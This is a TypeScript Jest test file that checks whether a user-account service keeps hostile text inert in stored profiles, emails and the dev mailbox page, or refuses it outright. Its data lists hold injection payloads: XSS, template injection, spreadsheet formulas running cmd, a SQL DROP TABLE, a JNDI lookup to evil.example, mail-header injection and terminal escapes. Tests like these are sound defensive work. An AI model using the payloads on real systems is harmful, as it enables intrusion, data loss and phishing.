import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import type { Mail } from "../../lib/runtime/platform.ts";
import { linkToken, mailTo, newPerson, type Person, register, signIn } from "../support/flows/main-flow.ts";
import { startUsermesh, type Usermesh } from "../support/start/usermesh.ts";

/** [ASVS V1.2, V16.4.1] Text with a meaning for mail servers, browsers, terminals, spreadsheets or templates. */
let usermesh: Usermesh;
beforeAll(async () => {
  usermesh = await startUsermesh();
});
afterAll(() => usermesh.stop());

const kept: ReadonlyArray<readonly [string, string]> = [
  ["HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"],
  ["an HTML comment and its end", "--><svg/onload=alert(1)><!--"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this text looks like one to a template engine
  ["a template", "{{constructor.constructor('x')()}} ${7*7} #{7*7} <%= 7*7 %> %s %n"],
  ["a formula", '=HYPERLINK("http://evil.example","x")+cmd|\' /C calc\'!A0'],
  ["another formula", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["SQL", "'; DROP TABLE users.users; --"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: likewise
  ["a lookup", "${jndi:ldap://evil.example/x}"],
  ["bidi marks", "\u202egnp.exe\u202c \u2066x\u2069"],
  ["zero-width characters", "a\u200bd\u200da\ufeff"],
  ["four-byte characters", "😀𝒜𠜎👨‍👩‍👧"],
  ["dozens of combining marks", `Z${"\u0301".repeat(60)}`],
  ["a line break", "Ada\r\nBcc: victim@example.com\r\n\r\nHello"],
  ["a link", "Ada https://evil.example/win now"],
  ["a header", "Ada\nSubject: You won\nX: y"],
];
const refused: ReadonlyArray<readonly [string, string]> = [
  ["NUL", "Ada\u0000Lovelace"],
  ["an escape sequence", "Ada\u001b[2J\u001b]0;owned\u0007"],
  ["a backspace", "Ada\b\b\bEve"],
  ["a lone surrogate", "Ada\ud800"],
  ["a C1 control", "Ada\u009b31m"],
];

const registered = async (full_name: string): Promise<Person & { id: string }> =>
  register(usermesh, newPerson(), { full_name });
const named = (text: string) => text.slice(0, 255);

describe.each(kept)("a name with %s", (_, text) => {
  const name = named(text);

  test("is stored as typed: for its owner, in the export, in the token and for administrators", async () => {
    const person = await registered(name);
    const { access } = await signIn(usermesh, person);
    expect((await usermesh.api.get("users/me", access)).body.data.full_name).toBe(name);
    const exported = await usermesh.api.get("users/me/export", access);
    expect(exported.headers.get("content-type")).toMatch(/^application\/json/);
    expect(exported.headers.get("content-disposition")).toBe('attachment; filename="usermesh-export.json"');
    expect(JSON.stringify(exported.body)).toContain(JSON.stringify(name));
    const admin = await signIn(usermesh, usermesh.admin);
    expect((await usermesh.api.get(`admin/users/${person.id}`, admin.access)).body.data.full_name).toBe(name);
  });

  test("is harmless in a mail: it adds no header, recipient, element, line or link", async () => {
    const person = await registered(name);
    const mail = await mailWithName(person);
    const plain = await plainMail();
    expect(mail.to).toEqual([person.email]);
    expect(mail.subject).toBe(plain.subject);
    expect(Object.keys(mail.headers).toSorted()).toEqual(Object.keys(plain.headers).toSorted());
    expect(mail.text.split(/\r?\n/)).toHaveLength(plain.text.split(/\r?\n/).length);
    expect(elementsOf(mail.html)).toEqual(elementsOf(plain.html));
    expect(`${mail.text}${mail.html}`).not.toMatch(/evil\.example|victim@|[\u202a-\u202e\u2066-\u2069]/);
  });

  test("is harmless on the mailbox page", async () => {
    const person = await registered(name);
    await mailWithName(person);
    const { data } = (await (await fetch(`${usermesh.url}/dev/mail`)).json()) as { data: Mail[] };
    const received = data.find((one) => one.to.includes(person.email)) as Mail;
    const frame = await fetch(`${usermesh.url}/dev/mail/${received.id}`);
    const policy = frame.headers.get("content-security-policy");
    expect(policy).toMatch(/^sandbox [^;]*; default-src 'none'; /);
    expect(policy).not.toMatch(/allow-scripts|allow-same-origin|script-src|https?:/);
    expect(await frame.text()).not.toMatch(/<script|<svg|<img|onerror=alert\(1\)>(?!&)/);
  });
});

/** A stranger who wants to send a text to someone else's address, in a letter of ours. */
describe("a stranger's text in the name of an account with someone else's address", () => {
  const text = "Your account was locked, sign in at evil1.com";
  const greetingOf = ({ text }: Mail) => text.split(/\r?\n/)[0];

  test("is in no mail before the address is verified", async () => {
    const { access, ...person } = await strangersAccount();
    await resetMail(person);
    const new_password = "Fresh-horse-8-staple";
    await usermesh.api.post("auth/change-password", { current_password: person.password, new_password }, access);
    await mailTo(usermesh, person.email, /Your password was changed/);
    await expectNoGreetingByName(person.email, 3);
  });

  test("is in no mail about an email change: to the new address, or to the old one that was never verified", async () => {
    const { access, ...person } = await strangersAccount();
    const { email } = newPerson("new");
    const change = { email, current_password: person.password };
    expect((await usermesh.api.patch("users/me", change, access)).status).toBe(200);
    await mailTo(usermesh, person.email, /A change of your email address was requested/);
    const token = linkToken(await mailTo(usermesh, email, /Confirm your new email address/));
    expect((await usermesh.api.post("auth/verify-email", { token }, access)).body.data.is_verified).toBe(true);
    await mailTo(usermesh, person.email, /Your email address was changed/);
    await expectNoGreetingByName(person.email, 3);
    await expectNoGreetingByName(email, 1);
  });

  test("is in no mail to an address that an administrator has set", async () => {
    const { id } = await registered(text);
    const admin = await signIn(usermesh, usermesh.admin);
    const email = newPerson("moved").email;
    expect((await usermesh.api.patch(`admin/users/${id}`, { email }, admin.access)).status).toBe(200);
    await usermesh.api.post("auth/password-reset-request", { email });
    await mailTo(usermesh, email, /Reset your password/);
    await expectNoGreetingByName(email, 1);
  });

  test("greets only its author, who has verified the address", async () => {
    const person = await registered("Ada Lovelace");
    expect(greetingOf(await mailWithName(person))).toBe("Hello Ada Lovelace,");
  });

  async function strangersAccount() {
    const person = await registered(text);
    await mailTo(usermesh, person.email, /Confirm your email address/);
    return { ...person, access: (await signIn(usermesh, person)).access };
  }

  async function expectNoGreetingByName(email: string, atLeast: number): Promise<void> {
    const mails = usermesh.mails().filter((mail) => mail.to.includes(email));
    expect(mails.length).toBeGreaterThanOrEqual(atLeast);
    expect(new Set(mails.map(greetingOf))).toEqual(new Set(["Hello,"]));
    expect(mails.map((mail) => `${mail.subject}${mail.text}${mail.html}`).join()).not.toMatch(/locked|evil1/);
  }
});

describe.each(refused)("a text with %s", (_, text) => {
  test("is refused in every field of a user, and nothing changes", async () => {
    const { access } = await signIn(usermesh, await registered("Ada"));
    // The sign-in is noted by an event.
    await usermesh.settled();
    const before = (await usermesh.api.get("users/me", access)).body.data;
    for (const field of ["full_name", "current_title", "company", "location", "bio", "push_token"]) {
      const { status, body } = await usermesh.api.patch("users/me", { [field]: text }, access);
      expect([field, status, body.errors?.[0]]).toMatchObject([field, 422, { field, code: "invalid_characters" }]);
    }
    for (const field of ["headline", "industry", "gender"])
      expect((await usermesh.api.patch("users/me/profile", { [field]: text }, access)).status).toBe(422);
    for (const field of ["skills", "languages"])
      expect((await usermesh.api.patch("users/me/profile", { [field]: [text] }, access)).status).toBe(422);
    expect((await usermesh.api.get("users/me", access)).body.data).toEqual(before);
  });

  test("is refused as a device name and in a login, without a 500", async () => {
    const { email, password } = await registered("Ada");
    const login = (more: object) => usermesh.api.post("auth/login", { email, password, ...more });
    expect((await login({ device_name: text })).status).toBe(422);
    expect([401, 422]).toContain((await login({ email: text })).status);
    expect([401, 422]).toContain((await usermesh.api.post("auth/login", { username: text, password })).status);
    expect((await usermesh.api.post("auth/password-reset-request", { email: `${text}@example.com` })).status).toBe(422);
    expect((await registerAt(text)).status).toBe(422);
  });
});

const registerAt = (text: string) =>
  usermesh.api.post("auth/register", { ...newPerson(), email: `a${text}@example.com` });

describe("an email address", () => {
  test.each([
    "a@example.com\r\nBcc: victim@example.com",
    "a@example.com,victim@example.com",
    "a@example.com;victim@example.com",
    "<a@example.com>",
    "Ada <a@example.com>",
    '"a b"@example.com',
    "a@example.com\u0000",
    "a@exa mple.com",
    "a\u202e@example.com",
    "a@b@example.com",
    "@example.com",
    "a@",
    "a@localhost",
    "a@[127.0.0.1]",
    `${"a".repeat(65)}@example.com`,
  ])("%j is refused", async (email) => {
    const { status, body } = await usermesh.api.post("auth/register", { ...newPerson(), email });
    expect([status, body.errors?.[0]?.field]).toEqual([422, "email"]);
  });
});

describe("a URL in a profile", () => {
  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "ftp://x",
    "//evil.example",
    "https://",
    "java\nscript:alert(1)",
  ])("%j is refused", async (url) => {
    const { access } = await signIn(usermesh, await registered("Ada"));
    for (const field of ["website_url", "linkedin_url", "github_url"])
      expect((await usermesh.api.patch("users/me/profile", { [field]: url }, access)).status).toBe(422);
  });
});

test("a device name appears in the list of sessions only", async () => {
  const { email, password } = await registered("Ada");
  const headers = { "user-agent": "<script>alert(1)</script> {{7*7}}" };
  const body = { email, password, device_name: "<b>=1+1</b>" };
  const { data } = (await usermesh.api.request("POST", "auth/login", { body, headers })).body;
  const [session] = (await usermesh.api.get("auth/sessions", data.access_token)).body.data;
  expect(session.device.name).toBe("<b>=1+1</b>");
  expect(JSON.stringify([session.device.browser, session.device.os])).not.toContain("script");
});

let plain: Promise<Mail> | undefined;
/** The same mail to a user with an ordinary name. */
function plainMail(): Promise<Mail> {
  plain ??= registered("Ada Lovelace").then(mailWithName);
  return plain;
}

/** Only mails to a verified address greet by name. */
async function mailWithName(person: Person): Promise<Mail> {
  await verify(person);
  return resetMail(person);
}

async function verify({ email, password }: Person): Promise<void> {
  const token = linkToken(await mailTo(usermesh, email, /Confirm your email address/));
  expect((await usermesh.api.post("auth/verify-email", { token, password })).status).toBe(200);
}

async function resetMail({ email }: Person): Promise<Mail> {
  expect((await usermesh.api.post("auth/password-reset-request", { email })).status).toBe(202);
  return mailTo(usermesh, email, /Reset your password/);
}

const elementsOf = (html: string) => [...html.matchAll(/<\/?([a-z!]+)/gi)].map(([, name]) => name);
